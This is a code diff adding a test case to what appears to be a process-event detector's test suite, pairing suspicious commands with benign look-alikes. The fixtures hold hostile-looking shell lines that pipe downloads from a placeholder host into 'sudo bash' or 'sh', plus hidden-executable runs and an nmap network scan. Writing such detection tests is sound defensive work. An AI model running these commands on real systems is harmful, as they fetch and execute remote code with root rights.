@@ -76,6 +76,8 @@ std::vector<Case> default_cases() {
   c.push_back({"Hidden executable run", exec_ev("/tmp/.x", {"/tmp/.x"}), exec_ev("/app/node_modules/.bin/tsc", {"tsc"})});
   c.push_back({"Hidden executable run", exec_p(with(proc("/bin/sh", {"sh", "/var/tmp/.s/run.sh"}), [](Process& p) { p.interpreter_script = "/var/tmp/.s/run.sh"; })),
                exec_p(with(proc("/bin/sh", {"sh", "/app/.venv/bin/activate"}), [](Process& p) { p.interpreter_script = "/app/.venv/bin/activate"; }))});
+  c.push_back({"Download piped into a shell", exec_ev("/bin/sh", {"sh", "-c", "wget -qO- http://x/i | sudo bash -s"}),
+               exec_ev("/bin/sh", {"sh", "-c", "curl -s http://x/i.tgz | sha256sum"})});
   c.push_back({"Download piped into a shell", exec_ev("/bin/sh", {"sh", "-c", "curl -s http://x/i.sh | sh"}),
                exec_ev("/bin/sh", {"sh", "-c", "curl -s http://x/i.sh -o /tmp/i.sh"})});
   c.push_back({"Offensive tool executed", exec_ev("/usr/bin/nmap", {"nmap", "-sS", "10.0.0.0/24"}), exec_ev("/usr/bin/nano", {"nano"})});
